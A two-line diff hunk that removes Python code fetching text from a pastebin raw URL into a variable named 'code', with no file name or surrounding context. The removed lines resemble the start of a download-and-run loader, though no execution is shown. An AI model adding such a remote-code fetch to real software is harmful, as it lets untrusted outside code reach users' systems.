@@ -1,2 +1,0 @@
-import requests
-code = requests.get("https://pastebin.com/raw/abc123").text
